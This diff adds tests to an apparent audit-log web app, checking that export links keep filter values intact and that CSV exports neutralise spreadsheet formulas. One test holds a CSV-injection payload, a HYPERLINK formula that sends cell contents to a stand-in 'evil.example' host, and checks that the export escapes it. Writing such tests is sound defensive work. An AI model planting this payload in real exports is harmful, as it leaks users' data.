@@ -94,3 +94,47 @@ def test_an_impossible_date_is_ignored_not_an_error(client, auditor, trail):
     client.force_login(auditor)
     response = client.get("/audit/?since=2026-13-45&until=not-a-date")
     assert response.status_code == 200 and "clusters.register" in response.content.decode()
+
+
+def _export_link(body: str, fmt: str) -> str:
+    import html
+    import re
+
+    return html.unescape(re.search(rf'href="(/audit/export\.{fmt}\?[^"]*)"', body).group(1))
+
+
+def _csv(client, url: str) -> list[dict[str, str]]:
+    text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_the_export_link_holds_exactly_the_rows_on_the_page(client, auditor, db):
+    """Filter values with '+', '&' and '=' reach the export unchanged (they were not URL-encoded)."""
+    from urllib.parse import urlencode
+
+    for i in range(8):
+        record(None, "jobs.x", "succeeded", actor_name="sec.ops+1", target=f"t{i}")
+    record(None, "jobs.y", "denied", actor_name="other", target="a&outcome=denied")
+    client.force_login(auditor)
+    for filters, expected in (
+        ({"actor": "sec.ops+1"}, 8),
+        ({"q": "a&outcome=denied"}, 1),
+        ({"q": "a", "outcome": "denied"}, 1),
+    ):
+        body = client.get("/audit/?" + urlencode(filters)).content.decode()
+        shown = body.count('<tr class="outcome-')
+        rows = _csv(client, _export_link(body, "csv"))
+        assert len(rows) == expected == shown, (filters, shown, len(rows))
+        json_rows = json.loads(b"".join(client.get(_export_link(body, "json")).streaming_content))["entries"]
+        assert len(json_rows) == expected
+
+
+def test_csv_cells_are_safe_to_open_in_a_spreadsheet(client, auditor, db):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    record(None, "accounts.login", "failed", actor_name=evil, target="+1-555", error="@SUM(1)")
+    client.force_login(auditor)
+    (row,) = [r for r in _csv(client, "/audit/export.csv") if r["target"].endswith("555")]
+    assert row["actor_name"] == "'" + evil
+    assert row["target"] == "'+1-555" and row["error"] == "'@SUM(1)"
+    body = json.loads(b"".join(client.get("/audit/export.json").streaming_content))
+    assert evil in [e["actor_name"] for e in body["entries"]]  # JSON keeps the value as it is
